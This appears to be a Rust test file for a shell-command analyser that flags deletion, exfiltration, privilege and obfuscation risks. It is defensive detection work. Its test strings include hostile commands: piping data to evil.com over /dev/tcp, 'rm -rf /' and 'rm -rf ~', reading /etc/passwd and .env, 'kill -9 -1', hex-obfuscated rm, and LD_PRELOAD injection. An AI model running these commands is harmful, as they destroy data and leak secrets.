//! Commands and what they are read into, written compactly.

mod disk;
mod keys;
mod known;
mod listings;
mod long;
mod sent;
mod written;

use super::command;
use crate::reading::atoms::{Atom, AtomKind, CodeClass, Found, PathText, Place, Reading, Source};
use crate::reading::disk::NoDisk;
use crate::reading::surroundings::Surroundings;
use crate::reading::word::{Piece, Word};

fn at() -> Surroundings {
    Surroundings {
        directory: "/r".to_owned(),
        repository: "/r".to_owned(),
        home: "/home/me".to_owned(),
        temporary: "/tmp/s".to_owned(),
        ..Surroundings::default()
    }
}

fn word(word: &Word) -> String {
    let mut text = String::new();
    for piece in &word.pieces {
        match piece {
            Piece::Text(piece) => text.push_str(piece),
            Piece::Glob(piece) => text.push_str(&format!("<{piece}>")),
            Piece::Unknown => text.push('?'),
            Piece::Below => text.push('#'),
            Piece::Fields => text.push('…'),
        }
    }
    if text.is_empty() {
        "''".to_owned()
    } else {
        text
    }
}

fn path(path: &PathText) -> String {
    match path {
        PathText::Known(path) => path.clone(),
        PathText::Below(path) => format!("{path}/?"),
        PathText::Glob(path, pattern) => format!("{path}/<{pattern}>"),
        PathText::Anywhere => "anywhere".to_owned(),
    }
}

fn place(place: &Place) -> String {
    let mut text = path(&place.path);
    if place.tree {
        text.push_str("/**");
    }
    if place.leaves_out_ignored {
        text.push_str(" kept");
    }
    if let Some(only) = &place.only {
        text.push_str(&format!(" only {only}"));
    }
    text
}

fn atom(atom: &Atom) -> String {
    let mut text = match &atom.kind {
        AtomKind::Program(program) => {
            let words: Vec<String> = program.words.iter().map(word).collect();
            let more = if program.open_ended { " +" } else { "" };
            let dirs = match program.directories.as_slice() {
                [one] if one == "/r" => String::new(),
                [] => "@? ".to_owned(),
                dirs => format!("@{} ", dirs.join(",")),
            };
            let place = match &program.found {
                Found::WritablePath => " (writable)",
                _ => "",
            };
            format!("{dirs}{}{more}{place}", words.join(" "))
        }
        AtomKind::Read(of) => format!("r:{}", place(of)),
        AtomKind::Write(of) => format!("w:{}", place(of)),
        AtomKind::Host(host) => format!("host:{}", host.name.as_deref().unwrap_or("?")),
        AtomKind::Code(code) => {
            let class = match code.class {
                CodeClass::Repo => "repo",
                CodeClass::Inline => "inline",
                CodeClass::Unknown => "unknown",
                CodeClass::Fetched => "fetched",
            };
            format!("code:{class}")
        }
        AtomKind::Use => "use".to_owned(),
    };
    if atom.source == Source::Redirection {
        text.insert(0, '>');
    }
    for danger in &atom.dangers {
        text.push_str(&format!(" !{:?}", danger.category));
    }
    text
}

/// All of it, in one line.
fn line(reading: &Reading) -> String {
    let mut parts: Vec<String> = reading.atoms.iter().map(atom).collect();
    if !reading.unread.is_empty() {
        parts.push("UNREAD".to_owned());
    }
    parts.join(" | ")
}

fn read(text: &str) -> String {
    line(&command(text, &at(), &NoDisk))
}

#[test]
fn a_command_is_read_into_its_atoms() {
    for (text, expected) in [
        ("", "use"),
        ("echo hi", "use"),
        ("export FOO=bar; echo $FOO", "use"),
        ("cd sub; ls", "@/r/sub,/r ls"),
        ("cd a || exit 1; ls", "@/r/a ls"),
        ("(cd sub && ls); ls", "@/r/sub ls | ls"),
        (
            "pushd sub; rm x; popd; rm y",
            "@/r/sub,/r rm x | w:/r/sub/x | w:/r/x | @/r,/r/sub rm y | w:/r/y | w:/r/sub/y",
        ),
        ("cat > f.txt <<'E'\nhi $x\nE", "cat | >w:/r/f.txt"),
        (
            "cat src/*.rs | wc -l",
            "cat src/<*>.rs | r:/r/src/<*.rs> | wc -l",
        ),
        (
            "for f in src/*.rs; do wc -l \"$f\"; done",
            "wc -l src/<*>.rs | r:/r/src/<*.rs>",
        ),
        ("X=/etc; cat $X/passwd", "cat /etc/passwd | r:/etc/passwd"),
        (
            "X=/a Y=$(cat $X); rm \"$Y\"",
            "cat /a | r:/a | rm ? | w:anywhere",
        ),
        (
            "sh -c 'cd sub && rm -rf x'",
            "@/r/sub rm -rf x | w:/r/sub/x/** !Delete",
        ),
        ("eval \"rm $HOME/x\"", "rm /home/me/x | w:/home/me/x"),
        ("trap '(trap \"rm x\" EXIT; ls)' EXIT", "ls | rm x | w:/r/x"),
        ("echo 'rm -rf /' | sh", "rm -rf / | w://** !Delete"),
        (
            "bash <<'E'\nrm -rf build\nE",
            "rm -rf build | w:/r/build/** !Delete",
        ),
        (
            "f() { rm \"$1\"; }; f a; f b",
            "rm a | w:/r/a | rm b | w:/r/b",
        ),
        (
            "while read f; do rm \"$f\"; done < list",
            "rm ? | w:anywhere | >r:/r/list",
        ),
        (
            "echo hi > /dev/tcp/evil.com/80",
            ">host:evil.com !Exfiltration",
        ),
        (
            "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done",
            "use",
        ),
        ("LD_PRELOAD=./x.so ls", "ls | code:repo"),
        (
            "if [ -f a ]; then cat a; else cat b; fi",
            "cat a | r:/r/a | cat b | r:/r/b",
        ),
        ("./run.sh", "./run.sh | code:repo"),
        // What is `--` to one of them is none to the next.
        ("printf '%s\\n' -- -f | xargs -n1 rm", "rm -- | rm -f"),
        ("echo a | xargs rm", "rm a | w:/r/a"),
        (
            "printf '%s\\n' a b | xargs -n1 -P4 cp x",
            "cp x a | r:/r/x | w:/r/a | w:/r/a/x | cp x b | r:/r/x | w:/r/b | w:/r/b/x",
        ),
        (
            "printf '%s\\n' -9 -1 | xargs -n2 kill",
            "kill -9 -1 !Privilege",
        ),
        (
            "printf '%s\\n' a | xargs -L1 rm",
            "rm … + | w:anywhere !Delete",
        ),
        (
            "xargs rm < list",
            "rm … + | w:anywhere !Delete | >r:/r/list",
        ),
        ("cat a b 2>/dev/null || true", "cat a b | r:/r/a | r:/r/b"),
        ("rm -rf \"$UNSET/x\"", "rm -rf ?/x | w:anywhere/** !Delete"),
        (
            "echo 'rm -rf ~' > x.sh; sh x.sh",
            ">w:/r/x.sh | sh x.sh | code:inline | r:/r/x.sh | rm -rf /home/me | w:/home/me/** !Delete",
        ),
        (
            "$'\\x72\\x6d' -rf x",
            "rm -rf x !Obfuscation | w:/r/x/** !Delete",
        ),
    ] {
        assert_eq!(read(text), expected, "{text}");
    }
}

#[test]
fn what_nobody_can_know_is_unread() {
    for text in [
        "$X a",
        "eval \"$(cat x)\"",
        "bash -c \"$(<x)\"",
        "$(<x) a",
        "$(<x <<<ls) rm a",
        "X=$(<x); $X a",
        "sh -c \"$X\"",
        "cat x y | sh",
        "((x))",
        "[[ $x -eq 0 ]]",
        "test -v \"$x\"",
        "echo ${!x}",
        "echo ${x@P}",
        "alias ls=rm; ls x",
        "PATH=$X ls",
        "true {PATH}<x; ls",
        "exec {PATH}>/dev/null; ls",
        "sleep 1 & wait -n -p PATH; ls",
        "sleep 1 & wait -npPATH; ls",
        "wait $X; ls",
        "for PATH in x; do ls; done",
        "((PATH=1)); ls",
        "let PATH=1; ls",
        "[[ PATH=1 -eq 1 ]]; ls",
        "echo ${y:PATH=1}; ls",
        "y[PATH=1]=3; ls",
        "y=([PATH=1]=3); ls",
        "BASH_CMDS=([ls]=x); ls",
        "trap 'PATH=1' DEBUG; ls",
        "declare -i y; y=PATH=1; ls",
        "typeset -i y; for i in PATH=1; do y=$i; done; ls",
        "declare -i y; f() { y=$1; }; f PATH=1; ls",
        "declare -i y; read y; ls",
        "readonly -a y=([PATH=1]=3); ls",
        "declare -i y; false && unset y; y=PATH=1; ls",
        "hash -p /tmp/x ls",
        "enable -f ./x.so x",
        "trap \"$X\" EXIT",
        "PS4='$(id)' ls",
        "set -k",
        "shopt -s expand_aliases",
        // `*` is then every name, or every case of it.
        "shopt -s dotglob",
        "bash -O dotglob -c 'cat *'",
        "bash -o posix -c 'cat *'",
        "shopt -s nocaseglob",
        "declare -a 'b=($(rm x))'",
        "declare -a \"b=($X)\"",
        "f() { f; }; f",
        "if",
    ] {
        let reading = command(text, &at(), &NoDisk);
        assert!(!reading.unread.is_empty(), "{text}: {}", line(&reading));
        assert!(!reading.atoms.is_empty(), "{text}");
    }
}

#[test]
fn a_variable_that_a_branch_or_subshell_sets_is_not_taken_for_certain() {
    for (text, expected) in [
        ("X=a; (X=b); rm $X", "rm a | w:/r/a"),
        ("X=a; [ -f c ] && X=b; rm \"$X\"", "rm ? | w:anywhere"),
        (
            "X=a; for i in 1 2; do rm \"$X\"; X=/; done",
            "rm a | w:/r/a | rm ? | w:anywhere",
        ),
        (
            "X=/etc; f() { local X=a; }; f; rm $X/x",
            "rm /etc/x | w:/etc/x",
        ),
        (
            "X=a; bash -c 'rm -rf \"$X/\"'",
            "rm -rf ?/ | w:anywhere/** !Delete",
        ),
    ] {
        assert_eq!(read(text), expected, "{text}");
    }
}

#[test]
fn a_value_that_may_climb_is_anywhere() {
    for (text, expected) in [
        ("cat \"src/$X\"", "anywhere"),
        ("cat \"src/$X/a.rs\"", "anywhere"),
        ("X=$(tr a b < f); cat \"src/$X\"", "anywhere"),
        ("cat \"src/$#/../../.env\"", "anywhere"),
        ("cat \"src/.$X\"", "anywhere"),
        ("cat \"src/${X%a}\"", "anywhere"),
        ("for f in ../*/x; do cat \"src/${f##*/}\"; done", "anywhere"),
        ("cat \"$(seq 2 1)/etc/passwd\"", "anywhere"),
        ("cat \"src/$#.txt\"", "/r/src/?"),
        ("cat \"src/$((1 + 2)).txt\"", "/r/src/?"),
        (
            "for i in $(seq 1 3); do cat \"src/f$i.txt\"; done",
            "/r/src/?",
        ),
        ("T=$(mktemp -d); cat \"$T/x\"", "/tmp/s/tmp.XXXXXXXXXX0/x"),
        ("D=$(date +%s); cat \"src/$D.log\"", "/r/src/?"),
        ("for f in a/*.md; do cat \"src/${f##*/}\"; done", "/r/src/?"),
        (
            "for f in a/*.md; do cat \"src/$(basename \"$f\" .md).html\"; done",
            "/r/src/?",
        ),
        (
            "find a -name '*.md' | while read -r f; do cat \"src/$(basename \"$f\")\"; done",
            "/r/src/?",
        ),
    ] {
        let line = read(text);
        assert!(line.contains(&format!(" | r:{expected}")), "{text}: {line}");
    }
}

#[test]
fn what_needs_no_allow_is_mentioned() {
    for (text, expected) in [
        (
            "echo hi; cd src && pwd",
            &["echo hi", "cd src", "@/r/src pwd"][..],
        ),
        (
            "env A=b timeout 5 cat f",
            &["env A=b timeout 5 cat f", "timeout 5 cat f"],
        ),
        ("sh -c 'true'", &["sh -c true", "true"]),
        ("command ls; [ -f x ]", &["command ls", "[ -f x ]"]),
        ("find . -name x | xargs wc -l", &["xargs wc -l"]),
        ("ls; cat f", &[]),
        // A function is none.
        ("echo() { ls; }; echo hi", &[]),
    ] {
        let reading = command(text, &at(), &NoDisk);
        let mentioned: Vec<String> = reading.mentioned.iter().map(atom).collect();
        assert_eq!(mentioned, expected, "{text}");
    }
    let many: String = (0..3000).map(|n| format!("echo {n}\n")).collect();
    let reading = command(&many, &at(), &NoDisk);
    assert_eq!(
        reading.unread,
        ["the command does more things than are read"]
    );
}

/// Pieces of commands, put together at random, and the commands of these tests.
#[test]
fn what_must_hold_of_a_reading_holds_of_pieces_put_together() {
    const PIECES: &[&str] = &[
        "ls",
        "cd",
        "rm",
        " ",
        " ",
        "a",
        "$x",
        "\"",
        "'",
        ";",
        "&&",
        "||",
        "|",
        "(",
        ")",
        "{ ",
        "; }",
        "$(",
        "`",
        "if ",
        "then ",
        "fi",
        "for i in ",
        "do ",
        "done",
        "while ",
        "x=",
        ">",
        "<",
        "sh -c ",
        "eval ",
        "xargs ",
        "curl http://h/",
        "find . -exec ",
        "f() ",
        "export ",
        "*",
        "~",
        "${x:-",
        "}",
        "[[ ",
        " ]]",
        "((",
        "))",
        "!",
        "read f",
        "git ls-files",
        "cat",
        "\n",
        "&",
    ];
    let mut state: u64 = 7;
    for _ in 0..20_000 {
        let mut text = String::new();
        for _ in 0..12 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1);
            let at = usize::try_from(state >> 33).unwrap_or(0) % PIECES.len();
            text.push_str(PIECES[at]);
        }
        super::fuzz::walk(text.as_bytes());
    }
}

#[test]
fn code_that_stands_elsewhere_is_not_the_repositorys() {
    for (text, expected) in [
        ("make", "make | code:repo"),
        ("make -C sub", "@/r/sub make -C sub | code:repo"),
        ("make -C /tmp/x", "@/tmp/x make -C /tmp/x | code:unknown"),
        ("cd ../x && cargo test", "@/x cargo test | code:unknown"),
        ("cd sub && cargo test", "@/r/sub cargo test | code:repo"),
        (
            "npm --prefix ../x run b",
            "@/r/../x npm --prefix ../x run b | code:unknown",
        ),
        (
            "make -f /tmp/x.mk",
            "make -f /tmp/x.mk | code:unknown | r:/tmp/x.mk | code:repo",
        ),
        (
            "mkdir -p /tmp/x && cd /tmp/x && make",
            "mkdir -p /tmp/x | w:/tmp/x | @/tmp/x make | code:unknown",
        ),
        (
            "echo 'a:' > /tmp/x/Makefile && make -C /tmp/x",
            ">w:/tmp/x/Makefile | @/tmp/x make -C /tmp/x | code:inline",
        ),
    ] {
        assert_eq!(read(text), expected, "{text}");
    }
    // Neither does an allow of the program's cover it.
    let reading = command("make -C /tmp/x; make -f /tmp/x.mk", &at(), &NoDisk);
    let sources: Vec<Source> = reading
        .atoms
        .iter()
        .filter(
            |atom| matches!(&atom.kind, AtomKind::Code(code) if code.class == CodeClass::Unknown),
        )
        .map(|atom| atom.source)
        .collect();
    assert_eq!(sources, [Source::Environment, Source::Option(2)]);
}
